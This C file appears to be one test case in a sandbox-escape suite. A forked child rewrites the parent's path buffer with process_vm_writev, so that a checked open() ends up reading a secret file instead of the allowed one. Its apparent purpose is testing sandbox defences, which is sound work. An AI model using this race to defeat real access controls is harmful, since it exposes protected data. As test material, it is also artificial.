/* e0104-toctou-vm-writev - argument TOCTOU on open(), by a sibling
 * process writing the path with process_vm_writev().
 *
 * Attack: the program forks; the child rewrites the parent's path buffer
 * (same address after fork) with process_vm_writev, between the allowed
 * file and the secret, while the parent opens and reads the buffer's path.
 * Source: Watson 2007 (races through shared memory and debugging
 * interfaces); DESIGN.md "Races and side doors".
 * Usage: e0104-toctou-vm-writev ALLOWED SECRET */
#include <string.h>
#include <sys/uio.h>

#include "escape.h"

static int poke(pid_t parent, void *addr, const char *text)
{
	struct iovec local = { (void *)text, strlen(text) + 1 };
	struct iovec remote = { addr, local.iov_len };
	if (process_vm_writev(parent, &local, 1, &remote, 1, 0) >= 0)
		return 0;
	esc_show_result("process_vm_writev into the parent", -1);
	return -1;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0104-toctou-vm-writev ALLOWED SECRET");
	esc_race_sibling_poke(argv[1], argv[2], poke);
	return 0;
}
